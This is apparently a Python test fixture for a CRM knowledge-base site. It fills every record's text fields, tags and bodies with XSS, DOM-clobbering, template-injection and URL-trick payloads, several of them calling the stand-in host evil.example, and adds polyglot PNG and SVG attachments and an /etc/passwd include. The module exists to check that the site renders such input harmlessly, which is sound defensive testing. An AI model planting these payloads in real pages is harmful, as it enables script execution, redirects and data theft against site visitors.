"""A hostile copy of the sample: every free-text field, tag and body of every record kind
carries script, event handlers, DOM-clobbering ids, URL tricks, attribute and template
injection and control characters; hostile but acceptable attachments sit beside them.

`kb check` accepts all of it (it is text a reporter could type), so the site must render it
harmlessly. Imported by name, like site_kit.
"""

from __future__ import annotations

import itertools
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from crmkb.yamlfile import load_markdown, load_yaml
from site_kit import REPO, copy_site_inputs

EVIL = "evil.example"
# Short enough for a title (200 characters) after the record's own words.
PAYLOADS = [
    '<script>alert("s1")</script>',
    '<img src=x onerror=alert("s2")>',
    '<svg onload=alert("s3")>',
    '<p id="__config">{"search":"data:text/javascript,alert(4)"}</p>',
    '<a id="__search" name="__search" href="javascript:alert(5)">j</a>',
    '" onmouseover="alert(6)" x="',
    "' autofocus onfocus='alert(7)' '",
    "{{ config.extra }}{% raw %}{{ 7*7 }}",
    '{: onclick="alert(8)" #__config .md-search }',
    f'<a href="\\\\{EVIL}/b1">b1</a>',
    f'<a href=" //{EVIL}/b2">b2</a>',
    f'<a href="https:{EVIL}/b3">b3</a>',
    f'<a href="/\\{EVIL}/b4">b4</a>',
    f'<a href="http:\\\\{EVIL}/b5">b5</a>',
    f'<a href="/&#9;/{EVIL}/b6">b6</a>',
    f"![i1](\\\\\\\\{EVIL}/i1.png)",
    f"![i2](//{EVIL}/i2.png)",
    f"[l1](https://{EVIL}/l1) <https://{EVIL}/l2>",
    "[l3](javascript:alert(9)) [l4](<jav&#x09;ascript:alert(10)>)",
    '<a href="data:text/html,<script>alert(11)</script>">d</a>',
    f'<img srcset="https://{EVIL}/s.png 1x"><video poster="//{EVIL}/p.png">',
    "<details open ontoggle=alert(12)><summary>s</summary></details>",
    '<noscript><p title="</noscript><img src=x onerror=alert(13)>"></noscript>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>",
    f'<base href="https://{EVIL}/"><meta http-equiv="refresh" content="0;url=//{EVIL}/">',
    f'<link rel="stylesheet" href="//{EVIL}/x.css"><style>@import "//{EVIL}/y.css";</style>',
    f'<iframe src="//{EVIL}/f"></iframe><object data="//{EVIL}/o"></object>',
    '<form action="//evil.example/"><input name="attributes"><button>go</button></form>',
    "</textarea></title><script>alert(15)</script>",
    "DEL\x7f STX\x02 ETX\x03 NEL\x85 NUL-free x)y",
]
TAGS = ["CRM", "crm", "a b", "a-b", "x)y", '"><svg onload=alert(16)>', "{{7*7}}", "DEL\x7f"]
BODY = "\n\n".join(
    [
        *PAYLOADS,
        f"[ref][r1]\n\n[r1]: //{EVIL}/ref",
        '<div id="__drawer" class="md-overlay">clobber</div>\n\n<form id="__consent"></form>',
        "para {: onclick=alert(17) }\n{: #__config }",
        f'<svg><use href="//{EVIL}/u.svg#x"/></svg>',
        '<!--#include virtual="/etc/passwd"--> <?php echo 1; ?>',
    ]
)
# Free-text fields by key; lists of free text; everything else (ids, dates, codes) is kept.
TEXT_KEYS = {"title", "name", "summary", "reason", "goal", "comment", "note", "vendor"}
TEXT_KEYS |= {"outcome", "session", "response", "decline_reason", "description", "department"}
TEXT_KEYS |= {"text", "explanation"}
LIST_KEYS = {"duties", "master_data"}
EXAM_MARK = "examonlyzq"  # in every exam-pool string: any occurrence on the site is a leak
ENV_MARK = "envonlyzq7Kp"  # set in the build's environment only

PNG = b"\x89PNG\r\n\x1a\n"
ATTACHMENTS: dict[str, bytes] = {
    "polyglot.png": PNG + b"<html><script>alert(18)</script></html>",
    "notes.txt": f"<script>alert(19)</script><img src=//{EVIL}/t.png>\n".encode(),
    "hushed.svg": (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
        b'<a href="data:text/html,&lt;script&gt;alert(20)&lt;/script&gt;"><text y="20">a</text>'
        b'<set attributeName="href" to="jav&#x61;script:alert(21)"/></a>'
        b'<use href="data:image/svg+xml;base64,PHN2Zy8+"/></svg>'
    ),
}


_NOT_ONE_LINE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def _payloads() -> Iterator[str]:
    yield from itertools.cycle(PAYLOADS)


def _poison(data: Any, nxt: Iterator[str], exam: bool) -> Any:
    mark = f" {EXAM_MARK}" if exam else ""
    if isinstance(data, list):
        return [_poison(item, nxt, exam) for item in data]
    if not isinstance(data, dict):
        return data
    out: dict[str, Any] = {}
    for key, value in data.items():
        if key == "title" and isinstance(value, str):
            # A title is one line of plain text: kb check refuses control characters there
            # (tests/store/test_strict_values.py); every other payload still goes in.
            value = _NOT_ONE_LINE.sub("", f"{value} {next(nxt)}{mark}")
        elif key in TEXT_KEYS and isinstance(value, str):
            value = f"{value} {next(nxt)}{mark}"
        elif key in LIST_KEYS and isinstance(value, list):
            value = [f"{v} {next(nxt)}" for v in value]
        elif key == "options" and isinstance(value, dict):
            value = {k: f"{v} {next(nxt)}{mark}" for k, v in value.items()}
        elif key == "tags" and isinstance(value, list):
            value = TAGS
        else:
            value = _poison(value, nxt, exam)
        out[key] = value
    return out


def _dump(data: Any) -> str:
    # JSON is YAML; ensure_ascii spells DEL and friends as \\u escapes YAML accepts.
    return json.dumps(data, ensure_ascii=True, default=str, indent=1)


def _rewrite(path: Path, nxt: Iterator[str]) -> None:
    # crmkb's own reader: plain PyYAML would turn the `on:` date keys into True.
    if path.suffix == ".md":
        doc = load_markdown(path, path.name)
        data = _poison(doc.data, nxt, exam=False)
        path.write_text(f"---\n{_dump(data)}\n---\n{doc.body}\n\n{BODY}\n", encoding="utf-8")
    else:
        data = load_yaml(path, path.name).data
        exam = data.get("pool") == "exam"
        path.write_text(_dump(_poison(data, nxt, exam)) + "\n", encoding="utf-8")


def write_corpus(target: Path) -> Path:
    """A copy of the site inputs with every record poisoned; returns the repository root."""
    root = copy_site_inputs(target)
    records = root / "records"
    nxt = _payloads()
    for path in sorted(records.rglob("*")):
        if path.suffix in {".md", ".yml"} and "exam-results" not in path.parts:
            _rewrite(path, nxt)
    evidence = records / "evidence" / "ISS-0001"
    for name, content in ATTACHMENTS.items():
        (evidence / name).write_bytes(content)
    issue = records / "issues" / "ISS-0001.md"
    text = issue.read_text(encoding="utf-8")
    listed = ",\n  ".join(f'"records/evidence/ISS-0001/{name}"' for name in ATTACHMENTS)
    issue.write_text(text.replace(' "evidence": [', f' "evidence": [\n  {listed},', 1))
    return root


# The schema's limits (crmkb.records.base), spelled out so that an older crmkb without them
# can build the same corpus for a before/after figure.
MAX_TITLE, MAX_TAG, MAX_TAGS, MAX_BODY = 200, 40, 30, 100_000
# Runs the build as its own child, so RUSAGE_CHILDREN sees that build and nothing else.
_MEASURE = (
    "import resource, subprocess, sys\n"
    "done = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
    "sys.stderr.write(done.stderr)\n"
    "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
    "sys.exit(done.returncode)\n"
)


def at_limits(number: int) -> str:
    """A resolved issue as large as the schema allows (ISS-0001's facts, solved by SOL-0001)."""
    tags = ", ".join(f"{number:02d}{i:02d}" + "签" * (MAX_TAG - 4) for i in range(MAX_TAGS))
    body = ("## 现象\n\n" + "回款到账日与入账日不一致。" * MAX_BODY)[: MAX_BODY - 2]  # + 2 newlines
    return (
        f"---\nid: ISS-{900 + number:04d}\ntitle: {'长' * MAX_TITLE}\nreporter: P010\n"
        "reported: 2026-10-09\nmodule: receivable\nseverity: high\ncause: process\n"
        "status: resolved\nsolution: SOL-0001\n"
        "dates:\n  investigating: 2026-10-09\n  resolved: 2026-10-16\n"
        f"tags: [{tags}]\n---\n\n{body}\n"
    )


def write_at_limits(target: Path, count: int, repo: Path = REPO) -> Path:
    """A copy of the sample plus `count` issues at the schema's limits."""
    root = copy_site_inputs(target, repo)
    for number in range(count):
        path = root / "records" / "issues" / f"ISS-{900 + number:04d}.md"
        path.write_text(at_limits(number), encoding="utf-8")
    solution = root / "records" / "solutions" / "SOL-0001.md"
    listed = ", ".join(f"ISS-{900 + n:04d}" for n in range(count))
    solution.write_text(
        solution.read_text(encoding="utf-8").replace("issues: [", f"issues: [{listed}, ", 1),
        encoding="utf-8",
    )
    return root


def peak_rss_kib(root: Path, python: str = sys.executable) -> int:
    """Peak resident memory of a strict `mkdocs build` of `root` with `python`, in KiB."""
    build = [python, "-m", "mkdocs", "build", "--strict", "-q"]
    build += ["-f", str(root / "mkdocs.yml"), "-d", str(root / "site")]
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "CRMKB_TODAY": "2026-11-23"}
    done = subprocess.run(
        [sys.executable, "-c", _MEASURE, *build], capture_output=True, text=True, env=env
    )
    if done.returncode:
        raise RuntimeError(f"build of {root} failed:\n{done.stderr}")
    return int(done.stdout.split()[-1])
